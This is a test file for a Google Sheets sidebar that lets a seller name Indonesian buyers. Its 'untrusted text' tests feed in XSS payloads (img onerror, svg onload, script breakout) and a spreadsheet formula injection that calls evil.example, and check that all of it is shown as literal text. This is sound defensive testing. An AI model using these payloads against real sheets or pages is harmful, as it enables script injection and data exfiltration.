// @vitest-environment jsdom
// The naming sidebar as shipped (dist/Naming.html's content from build.mjs), against a fake google.script.run.
import { afterEach, describe, expect, it } from 'vitest';
import { manyBuyers, queue, queueEntry, threeBuyers } from './fixtures';
import { click, flush, type LoadedPage, loadPage, pressKey, typeInto } from './page';

let page: LoadedPage;

afterEach(() => {
  // Whatever a test did, the page itself must not have thrown or logged an error.
  expect(page.errors).toEqual([]);
  expect(page.alerts).toEqual([]);
});

async function loaded(view = queue(threeBuyers())): Promise<LoadedPage> {
  page = await loadPage('Naming');
  page.fake.last('getNamingQueue').resolve(view);
  await flush();
  return page;
}

const entries = () => page.$$<HTMLLIElement>('li.entry');
const visibleEntries = () => entries().filter((li) => !li.hidden);
const inputOf = (li: Element) => li.querySelector<HTMLInputElement>('input.name-input')!;
const usernames = () => visibleEntries().map((li) => li.querySelector('.username')!.textContent);
const saves = () => page.fake.callsTo('saveBuyerName');

describe('loading the queue', () => {
  it('makes one server call, shows a loading state, then the count and every entry', async () => {
    page = await loadPage('Naming');
    expect(page.fake.calls.map((c) => c.name)).toEqual(['getNamingQueue']);
    expect(page.fake.calls[0].args).toEqual([]);
    expect(page.$('.banner').textContent).toContain('Memuat antrean');
    expect(entries()).toHaveLength(0);

    page.fake.last('getNamingQueue').resolve(queue(threeBuyers()));
    await flush();
    expect(page.fake.calls).toHaveLength(1);
    expect(page.$('.banner').textContent).toBe('');
    expect(page.$('.count').textContent).toBe('3 pembeli belum bernama');
    expect(usernames()).toEqual(['budi_s', 'sari.dewi', 'andi99']);
    expect(page.$('h1').textContent).toBe('Beri Nama Pembeli');
  });

  it('shows username, address, orders, the date in Indonesian and the products', async () => {
    await loaded();
    const sari = entries()[1];
    expect(sari.querySelector('.address')!.textContent).toBe('Jl. Kenanga 12, Surabaya, Jawa Timur');
    expect(sari.querySelector('.order-sns')!.textContent).toBe('240501BBB222, 240430BBB999');
    // 17:10 UTC on 30 April is 00:10 on 1 May in Jakarta.
    expect(sari.querySelector('.date')!.textContent).toBe('1 Mei 2024 00.10');
    expect([...sari.querySelectorAll('.product')].map((p) => p.textContent)).toEqual([
      'Hijab Segi Empat (Mocca) ×1',
      'Gamis Katun ×1',
    ]);
    expect(inputOf(sari).value).toBe('');
    expect(page.$('label[for="' + inputOf(sari).id + '"]').textContent).toBe('Nama asli');
  });

  it('an empty window says what is true: no orders, or all named; how many wait overall; a longer window', async () => {
    await loaded(queue([], { days: 3, ordersInWindow: 0, unnamedOverall: 41 }));
    expect(page.$('.count').textContent).toBe('Tidak ada pesanan dalam 3 hari terakhir.');
    expect(page.$('.overall').textContent).toBe('41 pembeli masih belum bernama dari semua pesanan.');
    const offers = page.$$<HTMLButtonElement>('.widen button');
    expect(offers.map((b) => b.textContent)).toEqual(['Lihat 7 hari terakhir', 'Lihat semua']);
    click(offers[1]);
    expect(page.fake.last('getNamingQueue').args).toEqual([0]);
    page.fake.last('getNamingQueue').resolve(queue([], { days: 0, ordersInWindow: 12, unnamedOverall: 0 }));
    await flush();
    expect(page.$('.count').textContent).toBe('Semua pembeli sudah bernama.');
    expect(page.$('.widen').hidden).toBe(true);
    expect(page.$<HTMLSelectElement>('select.window').value).toBe('0');
    expect(page.$('select.window option:last-child').textContent).toBe('semua');
  });

  it('a window whose count the server did not take (null) still offers the longer windows', async () => {
    await loaded(queue([], { days: 2, ordersInWindow: 4, unnamedOverall: null }));
    expect(page.$('.overall').hidden).toBe(true);
    expect(page.$$('.widen button').map((b) => b.textContent)).toEqual([
      'Lihat 3 hari terakhir',
      'Lihat semua',
    ]);
  });

  it('"hari ini" reads as today, never "1 hari terakhir"', async () => {
    await loaded(queue([], { days: 1, ordersInWindow: 5, unnamedOverall: 3 }));
    expect(page.$('.count').textContent).toBe('Semua pembeli hari ini sudah bernama.');
    expect(page.$$('.widen button').map((b) => b.textContent)).toEqual([
      'Lihat 2 hari terakhir',
      'Lihat semua',
    ]);
  });

  it('opens with the first name field focused, and the title only once (Sheets shows it above)', async () => {
    await loaded();
    expect(page.document.activeElement).toBe(inputOf(entries()[0]));
    expect(page.$('h1').classList.contains('visually-hidden')).toBe(true);
    expect(page.$('.hint').textContent).toContain('Enter pada kolom kosong melewati pembeli tanpa menyimpan');
  });

  it('shows a failed load with the reason and a retry that loads again', async () => {
    page = await loadPage('Naming');
    page.fake.last('getNamingQueue').reject('Sheet "Orders" tidak ditemukan');
    await flush();
    const alert = page.$('.banner [role="alert"]');
    expect(alert.textContent).toContain('Antrean tidak dapat dimuat.');
    expect(alert.textContent).toContain('Sheet "Orders" tidak ditemukan');
    click(page.$('.banner button.retry'));
    expect(page.fake.callsTo('getNamingQueue')).toHaveLength(2);
    page.fake.last('getNamingQueue').resolve(queue(threeBuyers()));
    await flush();
    expect(page.$('.banner').textContent).toBe('');
    expect(entries()).toHaveLength(3);
  });

  it('offers the recent window; a choice reloads the queue for that many days', async () => {
    await loaded();
    const select = page.$<HTMLSelectElement>('select.window');
    expect(select.value).toBe('2');
    expect([...select.options].map((o) => o.textContent)).toContain('7 hari terakhir');
    select.value = '7';
    select.dispatchEvent(new page.window.Event('change', { bubbles: true }));
    expect(page.fake.last('getNamingQueue').args).toEqual([7]);
    page.fake.last('getNamingQueue').resolve({ ...queue(threeBuyers()), days: 7 });
    await flush();
    expect(page.$<HTMLSelectElement>('select.window').value).toBe('7');
  });

  it('speaks English when the view says so', async () => {
    await loaded(queue(threeBuyers(), { lang: 'en' }));
    expect(page.$('h1').textContent).toBe('Name Buyers');
    expect(page.$('.count').textContent).toBe('3 buyers without a name');
    expect(entries()[0].querySelector('.date')!.textContent).toBe('1 May 2024 13:45');
    expect(page.document.documentElement.lang).toBe('en');
  });
});

describe('saving a name', () => {
  it('saves on blur, shows a subtle saving state, then the entry leaves with a confirmation', async () => {
    await loaded();
    const [budi] = entries();
    const input = inputOf(budi);
    input.focus();
    typeInto(input, '  Budi   Santoso ');
    inputOf(entries()[2]).focus(); // blur
    expect(saves()).toHaveLength(1);
    expect(saves()[0].args).toEqual([
      threeBuyers()[0].buyerKey,
      'Budi Santoso',
      threeBuyers()[0].addressFull,
      true, // the first try for a buyer the queue showed unnamed: the server may append at once
    ]);
    expect(input.readOnly).toBe(true);
    expect(budi.querySelector('.name-status')!.textContent).toBe('Menyimpan…');
    expect(budi.isConnected).toBe(true);

    saves()[0].resolve({
      buyerKey: threeBuyers()[0].buyerKey,
      buyerRealName: 'Budi Santoso',
      updated: false,
      updatedAt: '',
    });
    await flush();
    expect(budi.isConnected).toBe(false);
    expect(usernames()).toEqual(['sari.dewi', 'andi99']);
    expect(page.$('.count').textContent).toBe('2 pembeli belum bernama');
    expect(page.$('.toast').textContent).toBe('Tersimpan: Budi Santoso');
    // The seller had moved on to andi99: focus stays where they are.
    expect(page.document.activeElement).toBe(inputOf(entries()[1]));
  });

  it('Enter saves once, moves focus to the next entry, and the blur that follows does not save again', async () => {
    await loaded();
    const [budi, sari] = entries();
    inputOf(budi).focus();
    typeInto(inputOf(budi), 'Budi');
    const event = pressKey(inputOf(budi), 'Enter');
    expect(event.defaultPrevented).toBe(true);
    expect(saves()).toHaveLength(1);
    expect(page.document.activeElement).toBe(inputOf(sari));
    // More blurs of the first field while the save is in flight: still one save.
    inputOf(budi).focus();
    inputOf(sari).focus();
    pressKey(inputOf(budi), 'Enter');
    expect(saves()).toHaveLength(1);

    saves()[0].resolve({
      buyerKey: threeBuyers()[0].buyerKey,
      buyerRealName: 'Budi',
      updated: false,
      updatedAt: '',
    });
    await flush();
    expect(saves()).toHaveLength(1);
    expect(budi.isConnected).toBe(false);
    expect(page.document.activeElement).toBe(inputOf(sari));
    expect(page.$('.count').textContent).toBe('2 pembeli belum bernama');
  });

  it('moves focus to the next entry when the focused entry leaves after a save', async () => {
    await loaded();
    const [budi, sari] = entries();
    inputOf(budi).focus();
    typeInto(inputOf(budi), 'Budi');
    pressKey(inputOf(budi), 'Enter');
    inputOf(budi).focus(); // the seller came back to it while it saves
    saves()[0].resolve({ buyerKey: '', buyerRealName: 'Budi', updated: false, updatedAt: '' });
    await flush();
    expect(page.document.activeElement).toBe(inputOf(sari));
  });

  it('after the last entry, Enter moves focus to the filter', async () => {
    await loaded();
    const [, , andi] = entries();
    inputOf(andi).focus();
    typeInto(inputOf(andi), 'Andi');
    pressKey(inputOf(andi), 'Enter');
    expect(page.document.activeElement).toBe(page.$('input.filter'));
    saves()[0].resolve({ buyerKey: '', buyerRealName: 'Andi', updated: false, updatedAt: '' });
    await flush();
    expect(page.document.activeElement).toBe(page.$('input.filter'));
    expect(entries()).toHaveLength(2);
  });

  it("a browser's or Google's English failure is shown in the sidebar's own words", async () => {
    await loaded();
    const [budi] = entries();
    typeInto(inputOf(budi), 'Budi');
    pressKey(inputOf(budi), 'Enter');
    saves()[0].reject('Failed to fetch');
    await flush();
    expect(budi.querySelector('.name-status')!.textContent).toBe(
      'Gagal menyimpan: tidak tersambung ke Google Sheets; periksa koneksi internet, lalu coba lagi',
    );
    click(budi.querySelector('button.retry')!);
    saves()[1].reject('NetworkError: Connection failure due to HTTP 0');
    await flush();
    expect(budi.querySelector('.name-status')!.textContent).not.toMatch(/HTTP|Network/);
    click(budi.querySelector('button.retry')!);
    saves()[2].reject("TypeError: Cannot read properties of undefined (reading 'x')");
    await flush();
    expect(budi.querySelector('.name-status')!.textContent).toBe(
      'Gagal menyimpan: Google Sheets sedang bermasalah; coba lagi sebentar lagi',
    );
  });

  it('after the last entry of a filter, Enter on an empty field moves focus to the filter', async () => {
    await loaded();
    typeInto(page.$('input.filter'), 'surabaya');
    const [sari] = visibleEntries();
    inputOf(sari).focus();
    pressKey(inputOf(sari), 'Enter');
    expect(page.document.activeElement).toBe(page.$('input.filter'));
    expect(saves()).toHaveLength(0);
  });

  it('saves nothing for empty or blank input; Enter on it just moves on', async () => {
    await loaded();
    const [budi, sari, andi] = entries();
    inputOf(budi).focus();
    inputOf(sari).focus(); // blur with nothing typed
    typeInto(inputOf(sari), '   \t ');
    pressKey(inputOf(sari), 'Enter');
    expect(page.document.activeElement).toBe(inputOf(andi));
    expect(saves()).toHaveLength(0);
    expect(entries()).toHaveLength(3);
  });

  it('a failed save keeps the text, shows the reason and a retry that works', async () => {
    await loaded();
    const [budi, sari] = entries();
    inputOf(budi).focus();
    typeInto(inputOf(budi), 'Budi Santoso');
    pressKey(inputOf(budi), 'Enter');
    saves()[0].reject('Dokumen sedang dikunci pengguna lain');
    await flush();

    expect(budi.isConnected).toBe(true);
    expect(inputOf(budi).value).toBe('Budi Santoso');
    expect(inputOf(budi).readOnly).toBe(false);
    const status = budi.querySelector('.name-status')!;
    expect(status.textContent).toBe('Gagal menyimpan: Dokumen sedang dikunci pengguna lain');
    expect(status.getAttribute('role')).toBe('alert');
    const retry = budi.querySelector<HTMLButtonElement>('button.retry')!;
    expect(retry.hidden).toBe(false);
    expect(page.$('.count').textContent).toBe('3 pembeli belum bernama');

    // Going back into the field and out again with the same text does not resend it on its own...
    inputOf(budi).focus();
    inputOf(sari).focus();
    expect(saves()).toHaveLength(1);
    // ...the retry button does.
    click(retry);
    expect(saves()).toHaveLength(2);
    // A retry may follow a save that landed (the answer was lost): it asks for the full upsert.
    expect(saves()[1].args).toEqual([...saves()[0].args.slice(0, 3), false]);
    expect(saves()[0].args[3]).toBe(true);
    expect(retry.hidden).toBe(true);
    saves()[1].resolve({ buyerKey: '', buyerRealName: 'Budi Santoso', updated: false, updatedAt: '' });
    await flush();
    expect(budi.isConnected).toBe(false);
    expect(page.$('.count').textContent).toBe('2 pembeli belum bernama');
  });

  it('after a failure, a corrected name saves on blur, and Enter retries too', async () => {
    await loaded();
    const [budi, sari] = entries();
    inputOf(budi).focus();
    typeInto(inputOf(budi), 'Budy');
    inputOf(sari).focus();
    saves()[0].reject('timeout');
    await flush();
    inputOf(budi).focus();
    typeInto(inputOf(budi), 'Budi');
    inputOf(sari).focus();
    expect(saves().map((c) => c.args[1])).toEqual(['Budy', 'Budi']);
    saves()[1].reject('timeout lagi');
    await flush();
    expect(budi.querySelector('.name-status')!.textContent).toBe('Gagal menyimpan: timeout lagi');
    pressKey(inputOf(budi), 'Enter');
    expect(saves().map((c) => c.args[1])).toEqual(['Budy', 'Budi', 'Budi']);
  });

  it('a failed entry stays visible whatever the filter says', async () => {
    await loaded();
    const [budi] = entries();
    typeInto(inputOf(budi), 'Budi');
    pressKey(inputOf(budi), 'Enter');
    saves()[0].reject('x');
    await flush();
    typeInto(page.$<HTMLInputElement>('input.filter'), 'medan');
    expect(usernames()).toEqual(['budi_s', 'andi99']);
  });
});

describe('filter', () => {
  it('filters over username, address, order numbers and products, case-insensitively', async () => {
    await loaded();
    const filter = page.$<HTMLInputElement>('input.filter');
    typeInto(filter, 'SARI');
    expect(usernames()).toEqual(['sari.dewi']);
    typeInto(filter, 'bandung');
    expect(usernames()).toEqual(['budi_s']);
    typeInto(filter, '240430');
    expect(usernames()).toEqual(['sari.dewi', 'andi99']);
    typeInto(filter, 'gamis');
    expect(usernames()).toEqual(['sari.dewi']);
    expect(page.$('.shown').textContent).toBe('Menampilkan 1 dari 3');
    expect(page.$('.count').textContent).toBe('3 pembeli belum bernama');
    // Every word must match, in any order.
    typeInto(filter, 'jawa kaos');
    expect(usernames()).toEqual(['budi_s']);
    typeInto(filter, 'tidak ada yang cocok');
    expect(usernames()).toEqual([]);
    expect(page.$('.empty').textContent).toBe('Tidak ada pembeli yang cocok dengan saringan.');
    typeInto(filter, '  ');
    expect(usernames()).toEqual(['budi_s', 'sari.dewi', 'andi99']);
    expect(page.$('.shown').hidden).toBe(true);
    expect(page.$('.empty').hidden).toBe(true);
  });

  it('Enter skips hidden entries when moving on', async () => {
    await loaded();
    typeInto(page.$<HTMLInputElement>('input.filter'), 'jawa');
    const [budi, sari] = entries();
    inputOf(budi).focus();
    typeInto(inputOf(budi), 'Budi');
    pressKey(inputOf(budi), 'Enter');
    expect(page.document.activeElement).toBe(inputOf(sari));
    typeInto(page.$<HTMLInputElement>('input.filter'), 'bandung medan');
    expect(usernames()).toEqual(['budi_s']); // saving: stays visible
  });
});

describe('untrusted text', () => {
  const hostile = {
    username: '<img src=x onerror=alert(1)>',
    address: '</script><script>alert(1)</script> Jl. "Mawar" & <b>Gang</b>',
    order: '=IMPORTXML("http://evil.example/x","//a")',
    product: '<svg onload=alert(1)> ×1',
  };

  it('is shown literally and creates no elements', async () => {
    await loaded(
      queue([
        queueEntry(hostile.username, hostile.address, {
          orderSns: [hostile.order],
          products: [hostile.product],
        }),
      ]),
    );
    const [entry] = entries();
    expect(entry.querySelector('.username')!.textContent).toBe(hostile.username);
    expect(entry.querySelector('.address')!.textContent).toBe(hostile.address);
    expect(entry.querySelector('.order-sns')!.textContent).toBe(hostile.order);
    expect(entry.querySelector('.product')!.textContent).toBe(hostile.product);
    expect(page.$$('img, svg, b, iframe')).toHaveLength(0);
    expect(page.$$('script')).toHaveLength(1); // the page's own
    expect(page.document.title).toBe('Beri Nama Pembeli');
  });

  it('server error messages and typed names are text too', async () => {
    await loaded();
    const [budi] = entries();
    typeInto(inputOf(budi), '<img src=x onerror=alert(1)>');
    pressKey(inputOf(budi), 'Enter');
    expect(saves()[0].args[1]).toBe('<img src=x onerror=alert(1)>');
    saves()[0].reject('<b>boom</b><img src=x onerror=alert(2)>');
    await flush();
    expect(budi.querySelector('.name-status')!.textContent).toBe(
      'Gagal menyimpan: <b>boom</b><img src=x onerror=alert(2)>',
    );
    click(budi.querySelector('button.retry')!);
    saves()[1].resolve({
      buyerKey: '',
      buyerRealName: '<img src=x onerror=alert(3)>',
      updated: false,
      updatedAt: '',
    });
    await flush();
    expect(page.$('.toast').textContent).toBe('Tersimpan: <img src=x onerror=alert(3)>');
    expect(page.$$('img, b')).toHaveLength(0);
  });
});

describe('long text', () => {
  it('is clamped with a "selengkapnya" toggle and the full text in a title', async () => {
    const address = `Jl. Panjang Sekali No. 123, RT 01 RW 02, Kelurahan Contoh, Kecamatan Uji, Kota Bandung, Jawa Barat 40111`;
    const products = ['A ×1', 'B ×1', 'C ×1', 'D ×1'];
    await loaded(queue([queueEntry('panjang', address, { products }), queueEntry('pendek', 'Jl. A 1')]));
    const [long, short] = entries();
    expect(short.querySelector('button.more')).toBeNull();
    const toggle = long.querySelector<HTMLButtonElement>('button.more')!;
    expect(toggle.textContent).toBe('selengkapnya');
    expect(long.querySelector('.address')!.getAttribute('title')).toBe(address);
    expect(long.querySelector('.more-products')!.textContent).toBe('+2 produk lain');
    click(toggle);
    expect(long.classList.contains('expanded')).toBe(true);
    expect(toggle.textContent).toBe('ringkas');
    expect(toggle.getAttribute('aria-expanded')).toBe('true');
    click(toggle);
    expect(long.classList.contains('expanded')).toBe(false);
    click(long.querySelector('.address')!); // the clamped text itself expands too
    expect(long.classList.contains('expanded')).toBe(true);
  });
});

describe('refresh', () => {
  it('reloads with one call, keeps a failed entry and its typed text, and rebuilds the rest', async () => {
    await loaded();
    const [budi, sari] = entries();
    typeInto(inputOf(budi), 'Budi');
    pressKey(inputOf(budi), 'Enter');
    saves()[0].reject('gagal');
    await flush();
    click(page.$('button.refresh'));
    expect(page.$<HTMLButtonElement>('button.refresh').disabled).toBe(true);
    expect(page.fake.callsTo('getNamingQueue')).toHaveLength(2);
    // The new queue no longer has budi (named by a colleague) but has a new buyer.
    const fresh = threeBuyers().slice(1);
    fresh.push(queueEntry('baru', 'Jl. Baru 1'));
    page.fake.last('getNamingQueue').resolve(queue(fresh));
    await flush();
    expect(usernames()).toEqual(['sari.dewi', 'andi99', 'baru', 'budi_s']);
    expect(entries()[3]).toBe(budi);
    expect(inputOf(budi).value).toBe('Budi');
    expect(entries()[0]).not.toBe(sari);
    expect(page.$('.count').textContent).toBe('4 pembeli belum bernama');
  });

  it('a failed refresh keeps the list and offers a retry', async () => {
    await loaded();
    click(page.$('button.refresh'));
    page.fake.last('getNamingQueue').reject('Layanan sibuk');
    await flush();
    expect(entries()).toHaveLength(3);
    expect(page.$('.banner').textContent).toContain('Layanan sibuk');
    click(page.$('.banner button.retry'));
    expect(page.fake.callsTo('getNamingQueue')).toHaveLength(3);
  });
});

describe('500 entries', () => {
  it('renders them all, filters them, and saving one touches only that entry', async () => {
    const many = manyBuyers(500);
    await loaded(queue(many));
    expect(entries()).toHaveLength(500);
    expect(page.$('.count').textContent).toBe('500 pembeli belum bernama');
    const nodesBefore = entries();

    typeInto(page.$<HTMLInputElement>('input.filter'), 'pembeli42');
    expect(usernames()).toEqual(['pembeli42', ...Array.from({ length: 10 }, (_, i) => `pembeli42${i}`)]);
    typeInto(page.$<HTMLInputElement>('input.filter'), '');
    expect(visibleEntries()).toHaveLength(500);

    const target = entries()[250];
    inputOf(target).focus();
    typeInto(inputOf(target), 'Pembeli Dua Ratus Lima Puluh');
    pressKey(inputOf(target), 'Enter');
    expect(saves()[0].args[0]).toBe(many[250].buyerKey);
    expect(page.document.activeElement).toBe(inputOf(entries()[251]));
    saves()[0].resolve({ buyerKey: many[250].buyerKey, buyerRealName: 'x', updated: false, updatedAt: '' });
    await flush();
    expect(entries()).toHaveLength(499);
    expect(page.$('.count').textContent).toBe('499 pembeli belum bernama');
    // The other 499 are the very same elements: nothing was re-rendered.
    expect(entries()).toEqual(nodesBefore.filter((li) => li !== target));
  });
});
